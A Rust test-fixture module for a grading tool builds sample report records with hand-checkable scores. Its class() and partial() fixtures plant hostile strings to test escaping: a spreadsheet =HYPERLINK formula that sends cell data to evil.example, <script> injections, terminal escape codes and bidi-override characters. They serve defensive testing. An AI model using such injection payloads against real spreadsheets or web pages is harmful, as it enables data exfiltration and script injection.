//! Records for the reports: one for each way in which judging can end, with numbers that can be added up by hand.

use katas::record::{CaseStatus, ClassPart, Record, Status, Student};
use katas::spec::{CaseKind, Credit};

use super::build::{Asked, answer, cause, error, ran, record, without};

use CaseKind::{Hidden, Sealed, Shown};
use CaseStatus::{Differs, Failed, Open, Passed, Waits};

/// hf_load: 4 points for 8 cases, so half a point each.
const HF_LOAD: Asked = (
    "hf_load",
    4,
    &[
        ("identity selector", Shown),
        ("all ones", Shown),
        ("cycle", Shown),
        ("decimal digits", Shown),
        ("symmetric", Shown),
        ("45° rotation", Hidden),
        ("shear", Hidden),
        ("eight by eight", Hidden),
    ],
);

/// split_merge: 4 points for 6 cases, so two thirds of a point each.
const SPLIT_MERGE: Asked = (
    "split_merge",
    4,
    &[
        ("one, two", Shown),
        ("three", Shown),
        ("four", Shown),
        ("a | b", Shown),
        ("wide", Hidden),
        ("wider", Hidden),
    ],
);

/// state_translation: 2 points for 3 cases; without the class key 2 of them count, for a point each.
const STATE_TRANSLATION: Asked = (
    "state_translation",
    2,
    &[("first", Shown), ("second", Hidden), ("third", Sealed)],
);

const KATAS: [Asked; 3] = [HF_LOAD, SPLIT_MERGE, STATE_TRANSLATION];

/// Every record with its name.
pub(crate) fn all() -> Vec<(&'static str, Record)> {
    vec![
        ("passed", passed()),
        ("partial", partial()),
        ("compile_error", compile_error()),
        ("missing", missing()),
        ("unjudged", unjudged()),
        ("all_or_nothing", all_or_nothing()),
        ("even", even()),
        ("nothing", nothing()),
        ("class", class()),
        ("part", part()),
    ]
}

/// The names of the records of a single submission.
pub(super) fn single() -> Vec<(&'static str, Record)> {
    let mut all = all();
    all.retain(|(_, record)| is_single(record));
    all
}

/// Whether a record is of a single submission that is not part of a class.
pub(super) fn is_single(record: &Record) -> bool {
    record.submissions.iter().all(|one| one.id.is_empty())
}

/// 10 of 10 points; the sealed case was not run.
fn passed() -> Record {
    let katas = KATAS.map(|kata| {
        let statuses = kata.2.iter().map(|case| match case.1 {
            Sealed => Open,
            Shown | Hidden => Passed,
        });
        ran(kata, Credit::Cases, &statuses.collect::<Vec<_>>(), true)
    });
    record(Credit::Cases, None, &KATAS, katas.to_vec())
}

/// 1 + 0 + 4/3 of 10 points: a known mistake, a call that was never made, and a sealed case that differs.
fn partial() -> Record {
    let mut first = ran(
        HF_LOAD,
        Credit::Cases,
        &[
            Passed, Differs, Failed, Differs, Passed, Waits, Waits, Waits,
        ],
        false,
    );
    first.causes = vec![
        cause("pitfall", "no_transpose", true),
        cause("cause", "transposed", false),
    ];
    first.outputs = Some("0123456789abcdef".to_owned());
    first.cases[1].said = "1 of 2 numbers differs: output[1] is 7 instead of 5.".to_owned();
    first.cases[1].printed =
        "\u{1b}[2J\u{1b}[31mred\u{1b}[0m\rback\u{7} \u{202e}turned\n]]> ``` | <b>&amp;\0\n"
            .to_owned();
    first.cases[2].said =
        "The answer panicked: \"a\nb\" & <c> @octocat https://example.org".to_owned();
    let mut second = ran(SPLIT_MERGE, Credit::Cases, &[Passed; 6], false);
    second.headline = "not yet. The numbers are right, but nnx.split was never called.".to_owned();
    let third = ran(
        STATE_TRANSLATION,
        Credit::Cases,
        &[Passed, Passed, Differs],
        false,
    );
    record(
        Credit::Cases,
        Some("5ea1ed"),
        &KATAS,
        vec![first, second, third],
    )
}

/// 0 of 10 points: 12 + 1 + 1 errors of the compiler.
fn compile_error() -> Record {
    let katas = KATAS.map(|kata| {
        let mut one = without(kata, Status::Refused, "not yet. It does not compile.");
        let count = if kata.0 == "hf_load" { 12 } else { 1 };
        one.errors = (1..=count).map(error).collect();
        one.screen = format!(
            "{}: not yet. It does not compile.\n\nerror[E0308]: mismatched types\n",
            kata.0
        );
        one.answer = Some(answer(kata.0));
        one.took = Some(420);
        one
    });
    record(Credit::Cases, None, &KATAS, katas.to_vec())
}

/// 0 of 10 points.
fn missing() -> Record {
    let katas = KATAS.map(|kata| without(kata, Status::Missing, "not yet. There is no answer."));
    record(Credit::Cases, None, &KATAS, katas.to_vec())
}

/// 2 of 10 points: two katas that were not judged, and one that passed.
fn unjudged() -> Record {
    let crash = "not judged. katas failed: the sandbox was killed by signal 9.";
    let jail = "not judged. This machine cannot confine the answer, and it was not allowed to run unconfined.";
    let katas = vec![
        without(HF_LOAD, Status::Unjudged, crash),
        without(SPLIT_MERGE, Status::Unjudged, jail),
        ran(
            STATE_TRANSLATION,
            Credit::Cases,
            &[Passed, Passed, Open],
            true,
        ),
    ];
    let mut record = record(Credit::Cases, None, &KATAS, katas);
    record.judge.not_confined = vec!["no limits on system calls".to_owned()];
    record
}

/// 4 of 10 points: all or nothing, with 7 of 8 cases of the first kata right.
fn all_or_nothing() -> Record {
    let katas = vec![
        ran(
            HF_LOAD,
            Credit::All,
            &[
                Passed, Passed, Passed, Passed, Passed, Passed, Passed, Differs,
            ],
            false,
        ),
        ran(SPLIT_MERGE, Credit::All, &[Passed; 6], true),
        ran(
            STATE_TRANSLATION,
            Credit::All,
            &[Passed, Differs, Open],
            false,
        ),
    ];
    record(Credit::All, None, &KATAS, katas)
}

/// 2 + 0 of 8 points: two katas with 8 cases each for 4 points, so that one runner can have both.
fn even() -> Record {
    let other = ("other", 4, HF_LOAD.2);
    let katas = vec![
        ran(
            HF_LOAD,
            Credit::Cases,
            &[Passed, Passed, Passed, Passed, Differs, Waits, Waits, Waits],
            false,
        ),
        without(other, Status::Missing, "not yet. There is no answer."),
    ];
    record(Credit::Cases, None, &[HF_LOAD, other], katas)
}

/// A submission without katas.
fn nothing() -> Record {
    let mut record = record(Credit::Cases, None, &[], Vec::new());
    record.submissions[0].problems = vec!["submission.zip is not a zip file.".to_owned()];
    record
}

/// Three submissions with hostile texts: 10, 1 + 0 + 4/3 and 0 of 10 points.
fn class() -> Record {
    let people = [
        (
            "anna",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "anna@example.org",
            "1001",
        ),
        (
            "b|<script>alert(1)</script>",
            "a|b <script>🦀 עברית\u{202e}\nnext,line\"",
            "-b@example.org",
            "@1002",
        ),
        (
            "c Points Possible",
            "    Points Possible",
            "c@example.org",
            "",
        ),
    ];
    let records = [passed(), partial(), compile_error()];
    let submissions = people.into_iter().zip(records).map(|(person, record)| {
        let mut one = record.submissions.into_iter().next().expect("one");
        person.0.clone_into(&mut one.id);
        one.student = Student {
            name: Some(person.1.to_owned()),
            email: Some(person.2.to_owned()),
            sis_id: Some(person.3.to_owned()).filter(|id| !id.is_empty()),
            canvas_id: Some("12345".to_owned()).filter(|_| person.0 == "anna"),
            moodle_id: Some("1234567".to_owned()).filter(|_| person.0 == "anna"),
        };
        for kata in &mut one.katas {
            kata.took = None;
        }
        one
    });
    let mut record = record(Credit::Cases, None, &KATAS, Vec::new());
    record.submissions = submissions.collect();
    record.submissions[2].problems =
        vec!["Two files for hf_load: hf_load.rs, +copy|of.rs.".to_owned()];
    record
}

/// The third of three parts of that class: it has one submission, but is still a class.
fn part() -> Record {
    let mut record = class();
    record.submissions.drain(..2);
    record.part = Some(ClassPart {
        index: 3,
        of: 3,
        submissions: 3,
        class: "c1a55".to_owned(),
    });
    record
}
